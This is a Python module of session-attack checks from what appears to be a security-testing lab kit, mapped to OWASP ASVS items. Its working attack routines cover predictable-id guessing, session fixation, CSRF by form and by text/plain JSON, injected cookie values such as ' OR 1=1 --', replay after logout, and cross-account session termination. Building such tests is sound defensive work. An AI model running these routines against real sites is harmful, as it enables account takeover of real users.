"""Attacks on sessions: on the id, on the cookie that carries it, and on the browser that sends the cookie."""

from __future__ import annotations

import secrets
from collections.abc import Iterator

import requests

from labserver.kit.attacks.attack import attack
from labserver.kit.attacks.result import Finding
from labserver.kit.attacks.scene import BrowserSession, NotTried, Scene
from labserver.kit.forgery.forge import ALPHABET


@attack(
    family="sessions",
    title="Predictable session ids",
    weakness="predictable-ids",
    success="Anybody with an account can be anybody else who is logged in.",
    standard="OWASP ASVS 5.0, 7.2.3",
)
def predictable_ids(scene: Scene) -> Finding:
    """Log in, and count from the own id to the victim's.

    The victim logs in a moment before. Ids that are numbers are counted ten down and ten up; of others, the
    last character goes to its neighbours.
    """
    scene.session(scene.target.victim)
    own = scene.session(scene.target.attacker)
    got_in, summary, count = scene.guess(_neighbours(own.id))
    return Finding(got_in, f"{summary}, at guess {count}" if got_in else f"{summary}, {count} guesses")


@attack(
    family="sessions",
    title="Session fixation",
    weakness="no-regeneration",
    success="The attacker chose the id that the victim is logged in with, and so is logged in too.",
    standard="OWASP ASVS 5.0, 7.2.4",
)
def fixation(scene: Scene) -> Finding:
    """Plant an id in the victim's browser, wait for the login, and use the id.

    Tried with an id made up, and with one that the server gave the attacker. How it gets there (a link, a
    sibling host, a shared computer) is left out: the victim's browser simply has the cookie when it logs in.
    """
    given = scene.session(scene.target.attacker).id
    summary = ""
    for planted in (given, secrets.token_urlsafe(32)):
        cookie = {"Cookie": f"{scene.cookie_name}={planted}"}
        scene.session(scene.target.victim, headers=cookie)
        answer = scene.client().get("/session/me", headers=cookie)
        summary = scene.summarize(answer)
        if scene.opens(answer):
            return Finding(True, f"{summary}, by the planted id")
    return Finding(False, summary)


@attack(
    family="sessions",
    title="A cookie that scripts can read",
    weakness="readable-cookie",
    success="One hole for scripts in a page, and the session is copied to another computer.",
    standard="OWASP ASVS 5.0, 3.3.4",
)
def script_reads_cookie(scene: Scene) -> Finding:
    """Read the session cookie by script, on the victim's own page, and use it elsewhere.

    No browser runs here. A script can read a cookie exactly when its Set-Cookie lacks HttpOnly (RFC 6265bis,
    5.7), so this is what is looked at; the script itself came in by a hole in the page.
    """
    session = scene.session(scene.target.victim)
    if "httponly" in [part.strip().lower() for part in session.attributes.split(";")]:
        return Finding(False, "Set-Cookie says HttpOnly: document.cookie is empty")
    answer = scene.client().get("/session/me", headers=session.as_header)
    return Finding(scene.opens(answer), f"Set-Cookie without HttpOnly; {scene.summarize(answer)}")


@attack(
    family="sessions",
    title="Cross-site request forgery by a form",
    weakness="no-csrf",
    success="Any page that the victim visits can change the victim's account.",
    standard="OWASP ASVS 5.0, 3.5.1",
)
def forged_form(scene: Scene) -> Finding:
    """Let a page of another origin post a form with the victim's cookie and the attacker's CSRF token.

    No browser runs here: what one would send by itself is written down. The page is on another port of the
    same host, so SameSite=Lax lets the cookie through. Sent once as browsers do today, with Origin and
    Sec-Fetch-Site, and once as an old one, with neither.
    """
    session = scene.session(scene.target.victim)
    own = scene.session(scene.target.attacker)
    wanted = _address()
    form = {"email": wanted, "csrf_token": own.csrf}
    page = scene.page(session)
    answers = [page.post("/site/email", data=form, headers=headers) for headers in _by_itself(scene)]
    if all(answer.status_code == 404 for answer in answers):
        # There is no such page here. A form without a field, then.
        answers = [page.post("/session/logout", headers=headers) for headers in _by_itself(scene)]
    return _changed(scene, session, answers, wanted)


@attack(
    family="sessions",
    title="Cross-site request forgery by JSON",
    weakness="any-content-type",
    success="Any page that the victim visits can change the victim's account, by JSON sent as text.",
    standard="OWASP ASVS 5.0, 3.5.2",
)
def forged_json(scene: Scene) -> Finding:
    """Let a page of another origin post JSON under the name of text/plain, which needs no permission.

    For application/json a browser asks the server first (the preflight of the Fetch standard), for text/plain
    it does not. The body is what a form with enctype=text/plain makes of a field whose name is nearly JSON.
    No custom header, no CSRF token; the cookie and the origin as in `forged_form`.
    """
    session = scene.session(scene.target.victim)
    wanted = _address()
    body = f'{{"email": "{wanted}", "rest": "' + "=" + '"}\r\n'
    page = scene.page(session)
    answers = [
        page.post("/session/email", data=body, headers={"Content-Type": "text/plain", **headers})
        for headers in _by_itself(scene)
    ]
    return _changed(scene, session, answers, wanted)


@attack(
    family="sessions",
    title="An invented session id",
    success="A session needs no login.",
    standard="OWASP ASVS 5.0, 7.2.1",
)
def made_up_id(scene: Scene) -> Finding:
    """Send ids that the server never issued: empty, of the right length, a user's name, a path, a quote."""
    name = scene.target.victim.username
    guesser, summary = scene.client(), ""
    for made_up in ("", "A" * 43, name, "../../session", "' OR 1=1 --", secrets.token_urlsafe(32)):
        answer = guesser.get("/session/me", headers={"Cookie": f"{scene.cookie_name}={made_up}"})
        summary = scene.summarize(answer)
        if answer.status_code == 200:
            return Finding(True, summary)
    return Finding(False, summary)


@attack(
    family="sessions",
    title="A session cookie after logout",
    success="Logging out does not end what a thief has copied.",
    standard="OWASP ASVS 5.0, 7.4.1",
)
def replay_after_logout(scene: Scene) -> Finding:
    """Keep a copy of the cookie, and send it after the victim has logged out."""
    session = scene.session(scene.target.victim)
    out = session.browser.post("/session/logout", headers={"X-CSRF-Token": session.csrf})
    answer = scene.client().get("/session/me", headers=session.as_header)
    return Finding(scene.opens(answer), f"logout {out.status_code}, then {scene.summarize(answer)}")


@attack(
    family="sessions",
    title="A credential in the wrong place",
    success="What protects one way to carry a credential does not protect the other.",
    standard="RFC 6265bis, 5.7; RFC 6750, 2",
)
def another_place(scene: Scene) -> Finding:
    """Send good credentials where they do not belong: under another cookie's name, by the other carrier."""
    session = scene.session(scene.target.victim)
    token = scene.tokens(scene.target.victim)["access_token"]
    other = "sid" if session.cookie != "sid" else "__Host-sid"
    summary = ""
    for path, headers in (
        ("/session/me", {"Cookie": f"{other}={session.id}"}),
        ("/session/me", {"Cookie": f"session={session.id}; {session.cookie.upper()}X={session.id}"}),
        ("/session/me", {"Cookie": f"{session.cookie}={token}"}),
        ("/session/me", {"Authorization": f"Bearer {session.id}"}),
        ("/token/me", {"Authorization": f"Bearer {session.id}"}),
        ("/token/me", {"Cookie": f"access_token={token}; {session.cookie}={token}"}),
    ):
        answer = scene.client().get(path, headers=headers)
        summary = scene.summarize(answer)
        if scene.opens(answer):
            return Finding(True, f"{summary}, by {' and '.join(headers)}")
    return Finding(False, summary)


@attack(
    family="sessions",
    title="Ending another user's session",
    success="Anybody with an account can log others out.",
    standard="OWASP ASVS 5.0, 8.2.2",
)
def foreign_handle(scene: Scene) -> Finding:
    """End a device of the victim's from the attacker's account, by its handle."""
    session = scene.session(scene.target.victim)
    own = scene.session(scene.target.attacker)
    listing = session.browser.get("/session/sessions")
    if listing.status_code != 200:
        raise NotTried(f"the victim's devices are not listed: {scene.summarize(listing)}")
    handle = next(device["handle"] for device in listing.json()["sessions"] if device["current"])
    answer = own.browser.delete(f"/session/sessions/{handle}", headers={"X-CSRF-Token": own.csrf})
    ended = not scene.opens(session.browser.get("/session/me"))
    return Finding(ended, f"DELETE /session/sessions/… → {answer.status_code}")


def _neighbours(own: str) -> Iterator[str]:
    steps = sorted((step for step in range(-10, 11) if step), key=abs)
    if own.isascii() and own.isdecimal():
        yield from (str(int(own) + step).rjust(len(own), "0") for step in steps)
    elif own and own[-1] in ALPHABET:
        place = ALPHABET.index(own[-1])
        yield from (own[:-1] + ALPHABET[(place + step) % 64] for step in steps)


def _address() -> str:
    return f"{secrets.token_hex(4)}@evil.example"


def _by_itself(scene: Scene) -> list[dict[str, str]]:
    """List what a browser adds for a page of another port, and what an old one adds: nothing."""
    modern = {"Origin": scene.neighbour, "Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate"}
    return [modern, {}]


def _changed(scene: Scene, session: BrowserSession, answers: list[requests.Response], wanted: str) -> Finding:
    """Look with the victim's eyes whether the address is the attacker's, or the session gone."""
    now = session.browser.get("/session/me")
    done = not scene.opens(now) or now.json()["user"].get("email") == wanted
    return Finding(done, "; ".join(scene.summarize(answer) for answer in answers))
